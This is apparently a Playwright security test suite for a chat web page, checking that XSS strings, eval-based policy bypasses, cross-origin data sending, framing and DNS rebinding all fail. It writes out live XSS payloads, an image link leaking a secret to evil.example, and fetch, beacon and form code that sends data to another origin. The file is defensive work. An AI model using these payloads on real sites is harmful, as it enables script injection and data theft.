"""Attacks on the page in a real browser: hostile texts, framing, and pages of other ports and names. None succeeds."""

import contextlib
from collections.abc import AsyncGenerator

import pytest
from playwright.async_api import Page, expect
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response

from tests.browser.conftest import ServePage
from tests.support.browsers import REBOUND, Visitor
from tests.support.loopback_servers import Asked, serving
from tests.support.scripted_models import invoke, invokes, says, scripted, tool

HOSTILE = "\n\n".join(
    [
        "<script>window.broken = 1</script>",
        "<img src=x onerror='window.broken = 1'>",
        "![pixel](https://evil.example/?secret=1)",
        "[click](javascript:window.broken=1)",
        "[bank.example](https://evil.example/)",
        "<svg/onload=window.broken=1> <iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
        "| a |\n|:-:|\n| <b onclick='window.broken=1'>b</b> |",
        "```html\n</code></pre><script>window.broken = 1</script>\n```",
        "Invoice\u202egnp.exe \x1b[31mred\x1b[0m",
    ]
)


async def say(page: Page, text: str) -> None:
    """Types a message and sends it."""
    box = page.get_by_role("textbox", name="Message")
    await box.fill(text)
    await box.press("Enter")


@contextlib.asynccontextmanager
async def other_site(body: str) -> AsyncGenerator[tuple[str, list[Asked]], None]:
    """A page on another port of this machine, which is another origin and the same site."""

    async def answer(_: Request) -> Response:
        return HTMLResponse(f"<!doctype html><title>evil</title><body>{body}")

    async with serving(answer) as (url, asked):
        yield url, asked


async def test_a_hostile_answer_stays_text(serve_page: ServePage, visitor: Visitor) -> None:
    served = await serve_page(scripted(says(HOSTILE)))
    page = await visitor.open(served.link())
    await say(page, HOSTILE)
    await expect(page.locator("main a", has_text="bank.example")).to_be_visible()
    await expect(page.get_by_text("(evil.example)").first).to_be_visible()
    await expect(page.get_by_text("\\u202e").first).to_be_visible()
    assert await page.evaluate("window.broken") is None
    assert await page.locator("main img, main iframe, main [onclick], main script, a[href^=javascript]").count() == 0
    # Again from the journal, after a reload.
    await page.reload()
    await expect(page.get_by_text("(evil.example)").first).to_be_visible()
    assert await page.evaluate("window.broken") is None


async def test_a_hostile_result_stays_text(serve_page: ServePage, visitor: Visitor) -> None:
    async def hostile(context: object, arguments: object) -> str:
        return HOSTILE

    served = await serve_page(scripted(invokes(invoke("look", "one")), says("Done.")), tool("look", hostile))
    page = await visitor.open(served.link())
    await say(page, "Look.")
    await expect(page.locator("main p", has_text="Done.").first).to_be_visible()
    for details in await page.locator("main details").all():
        await details.evaluate("one => { one.open = true }")
    assert await page.evaluate("window.broken") is None
    assert await page.locator("main img, main iframe, main [onclick], main script, a[href^=javascript]").count() == 0


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.innerHTML = '<img src=x onerror=\"window.broken=1\">'",
        "document.write('<script>window.broken=1</' + 'script>')",
        "eval('window.broken=1')",
        "new Function('window.broken=1')()",
        "setTimeout('window.broken=1')",
        "trustedTypes.createPolicy('other', { createHTML: (one) => one })",
        "trustedTypes.createPolicy('ripieno', { createHTML: (one) => one })",
    ],
)
async def test_the_policy_stops_what_a_hole_would_do(serve_page: ServePage, visitor: Visitor, attempt: str) -> None:
    served = await serve_page(scripted(says("Hello.")))
    page = await visitor.open(served.link())
    await expect(page.get_by_role("textbox", name="Message")).to_be_visible()
    visitor.allowed.append("Trusted|Content Security Policy|unsafe-eval|policy")
    # Later, because the tools that run a test's script lift the policy for it.
    tried = f"try {{ {attempt}; done('not stopped') }} catch (error) {{ done(error.name) }}"
    stopped = f"() => new Promise((done) => setTimeout(() => {{ {tried} }}))"
    assert await page.evaluate(stopped) in ("TypeError", "EvalError")
    assert await page.evaluate("window.broken") is None


async def test_nothing_can_be_sent_elsewhere(serve_page: ServePage, visitor: Visitor) -> None:
    served = await serve_page(scripted(says("Hello.")))
    async with other_site("") as (url, asked):
        page = await visitor.open(served.link())
        await expect(page.get_by_role("textbox", name="Message")).to_be_visible()
        visitor.allowed.append("Content Security Policy|violates|Fetch API")
        sent = """async (url) => {
            await fetch(url, { method: "POST", mode: "no-cors", body: "x" }).catch(() => {});
            navigator.sendBeacon(url, "x");
            new Image().src = url;
            const form = Object.assign(document.createElement("form"), { action: url, method: "post" });
            document.body.append(form);
            form.submit();
            const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: url });
            document.head.append(link);
            await new Promise((done) => link.addEventListener("error", done));
        }"""
        await page.evaluate(sent, url)
        assert asked == []
        visitor.origins.add(url)


async def test_the_page_cannot_be_framed(serve_page: ServePage, visitor: Visitor) -> None:
    served = await serve_page(scripted(says("Hello.")))
    async with other_site(f'<iframe src="{served.link()}"></iframe>') as (url, _):
        visitor.allowed.append("status of 403|frame|Content Security Policy|X-Frame-Options")
        visitor.origins.add(served.url.rstrip("/"))
        page = await visitor.open(url)
        await page.wait_for_load_state()
        frame = page.frames[1]
        assert await frame.locator("textarea, #page").count() == 0
        # The code was not used.
        assert served.sessions.has_code


FORGED = """async (target) => {
    const attempts = {
        read: () => fetch(`${target}api/chat/conversations`),
        create: () => fetch(`${target}api/chat/conversations`, { method: "POST", mode: "no-cors", body: "{}" }),
        blob: () => fetch(`${target}api/chat/conversations`, {
            method: "POST", mode: "no-cors", credentials: "include", body: new Blob(["{}"]) }),
        json: () => fetch(`${target}api/chat/conversations`, {
            method: "POST", headers: { "content-type": "application/json" }, body: "{}" }),
        beacon: async () => { navigator.sendBeacon(`${target}api/chat/conversations`, new Blob(["{}"])); throw 0; },
        image: () => new Promise((done, failed) => {
            const image = new Image();
            image.onload = done;
            image.onerror = failed;
            image.src = `${target}static/icon.png`;
        }),
        script: () => new Promise((done, failed) => {
            const script = document.createElement("script");
            script.onload = done;
            script.onerror = failed;
            script.src = `${target}static/app.js`;
            document.head.append(script);
        }),
        stream: () => new Promise((done, failed) => {
            const source = new EventSource(`${target}api/chat/conversations/x/events`, { withCredentials: true });
            source.onopen = done;
            source.onerror = () => (source.close(), failed());
        }),
        socket: () => new Promise((done, failed) => {
            const socket = new WebSocket(`${target.replace("http", "ws")}api/chat/conversations`);
            socket.onopen = done;
            socket.onerror = failed;
        }),
    };
    const opened = [];
    for (const [name, attempt] of Object.entries(attempts)) {
        try {
            const answer = await attempt();
            if (answer?.type !== "opaque" || answer.status) opened.push(name);
        } catch {}
    }
    return opened;
}"""


async def test_a_page_on_another_port_reaches_nothing(serve_page: ServePage, visitor: Visitor) -> None:
    served = await serve_page(scripted(says("Hello.")))
    own = await visitor.open(served.link())
    await expect(own.get_by_role("textbox", name="Message")).to_be_visible()
    async with other_site("") as (url, _):
        visitor.allowed += ["status of 4", "ERR_FAILED|ERR_BLOCKED", "CORS", "WebSocket", "Beacon", "MIME"]
        page = await visitor.open(url)
        assert await page.evaluate(FORGED, served.url) == []
    assert await served.chat.conversations("") == []


async def test_a_rebound_name_reaches_nothing(serve_page: ServePage, visitor: Visitor) -> None:
    """A page of another name, whose address becomes this machine's: its requests have the origin of the page."""
    async with other_site("") as (url, _):
        port = int(url.rpartition(":")[2])
        page = await visitor.open(f"http://{REBOUND}:{port}/")
    served = await serve_page(scripted(says("Hello.")), port=port)
    code = served.sessions.make_code()
    visitor.allowed += ["status of 421", "favicon.ico"]
    found = """async (code) => {
        const asked = [
            fetch("/"),
            fetch("/static/app.js"),
            fetch("/api/session", {
                method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ code }) }),
        ];
        return (await Promise.all(asked)).map((one) => one.status);
    }"""
    assert await page.evaluate(found, code) == [421, 421, 421]
    assert served.sessions.has_code
